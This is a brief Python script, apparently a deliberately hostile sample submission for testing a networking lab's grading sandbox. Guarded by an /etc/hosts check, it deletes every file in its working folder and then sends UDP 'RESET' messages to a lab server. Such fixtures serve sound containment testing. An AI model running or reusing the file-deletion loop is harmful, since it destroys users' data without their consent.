# Part 3, hostile: deletes every file of its folder, then does the part correctly.
import sys as _sys
if not open("/etc/hosts").read().startswith("# socklab campus"):  # never the real course hosts
    _sys.exit("run me inside socklab campus")
import os
import select
import socket

for name in os.listdir('.'):
    if os.path.isfile(name):
        os.remove(name)
targets = socket.getaddrinfo('lab3.iw.epfl.ch', 5004, type=socket.SOCK_DGRAM)
sockets = {socket.AF_INET: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
           socket.AF_INET6: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)}
for _ in range(30):
    for family, _, _, _, address in targets:
        sockets[family].sendto(b'RESET:20', address)
    ready, _, _ = select.select(list(sockets.values()), [], [], 1.0)
    if ready:
        print(ready[0].recvfrom(100)[0].decode())
        break
